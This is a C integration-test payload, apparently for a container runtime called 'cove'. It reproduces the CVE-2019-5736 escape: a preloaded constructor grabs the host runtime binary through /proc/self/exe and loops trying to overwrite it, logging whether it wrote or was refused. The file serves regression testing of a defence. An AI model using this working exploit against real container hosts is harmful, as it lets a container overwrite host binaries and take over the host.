/* tests/integration/attack/exe_overwrite.c — the CVE-2019-5736 payload,
 * built as a shared object and named in the image's /etc/ld.so.preload.
 *
 * It runs as a constructor in any dynamically linked program the container
 * starts. When that program is the runtime itself (the workload's path led
 * the kernel to /proc/self/exe: a "#!/proc/self/exe" script or a symlink),
 * /proc/self/exe is the host's runtime binary. The payload keeps an O_PATH
 * fd to it, leaves the binary (so it is no longer busy) by exec'ing a shell
 * loop, and that loop reopens /proc/self/fd/N for writing until the last
 * runtime process exits, then overwrites it. Everything it does is logged
 * to /log (a host directory the test reads): "ran <exe>" when the payload
 * ran, then "wrote" or "refused".
 *
 * As PID 1 (create/start) it stays PID 1 (the container must not end); in
 * any other process (cove exec) it forks and the original exits, so that
 * the runtime waiting for it exits and the binary stops being busy. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

__attribute__((constructor)) static void payload(void) {
    char exe[512] = "";
    ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    if (n > 0)
        exe[n] = '\0';
    /* only the runtime binary is a target; busybox (every applet) is not */
    if (n <= 0 || strcmp(exe, "/bin/busybox") == 0)
        return;
    int log = open("/log/ran", O_WRONLY | O_CREAT | O_APPEND, 0644);
    if (log >= 0) {
        dprintf(log, "ran %s\n", exe);
        close(log);
    }
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0)
        return;
    if (getpid() != 1) {
        pid_t pid = fork();
        if (pid != 0)
            _exit(0);
        setsid();
    }
    char loop[512];
    snprintf(loop, sizeof(loop),
             "i=0; while [ $i -lt 80 ]; do"
             " if printf '#!/bin/sh\\necho pwned\\n' 2>/dev/null > /proc/self/fd/%d; then echo wrote >> /log/result; exec sleep 600; fi;"
             " i=$((i+1)); sleep 0.05; done; echo refused >> /log/result; exec sleep 600",
             fd);
    execl("/bin/sh", "sh", "-c", loop, (char *)NULL);
    _exit(127);
}
